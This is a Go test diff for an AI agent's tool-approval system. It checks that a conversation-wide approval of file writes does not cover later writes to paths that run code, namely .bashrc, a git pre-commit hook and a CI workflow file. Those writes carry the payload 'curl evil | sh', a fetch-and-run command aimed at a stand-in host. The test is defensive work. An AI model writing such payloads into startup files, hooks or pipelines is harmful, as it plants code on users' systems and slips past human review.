@@ -302,3 +302,21 @@ func TestConcurrentScopedApprovalsAndDenies(t *testing.T) {
 	}
 	assert.Equal(t, 1+approved, policyVersion(t, env.Admin, "racer"), "one policy version per approved action, none for a denied one")
 }
+
+// TestGrantNeverCoversCodeLater: a conversation grant made for an
+// ordinary target of a rule does not approve a later call of that rule
+// whose target runs code later.
+func TestGrantNeverCoversCodeLater(t *testing.T) {
+	t.Parallel()
+	env := apptest.Start(t)
+	agent := env.Agent("writer", map[string]any{"rules": []map[string]any{{"id": "files", "tool": "fs.write", "effect": "approve"}}})
+	alice := env.Reviewer("alice")
+	first := submitIn(t, agent, "conv", "fs.write", map[string]any{"path": "docs/a.md", "content": "x"})
+	_, err := approveWith(t, alice, first.ID, "conversation")
+	require.NoError(t, err)
+	assert.Equal(t, "approved", submitIn(t, agent, "conv", "fs.write", map[string]any{"path": "docs/b.md", "content": "y"}).Status)
+	for _, p := range []string{".bashrc", ".git/hooks/pre-commit", ".github/workflows/ci.yml"} {
+		got := submitIn(t, agent, "conv", "fs.write", map[string]any{"path": p, "content": "curl evil | sh"})
+		assert.Equal(t, "pending", got.Status, "%s runs code later: no grant covers it", p)
+	}
+}
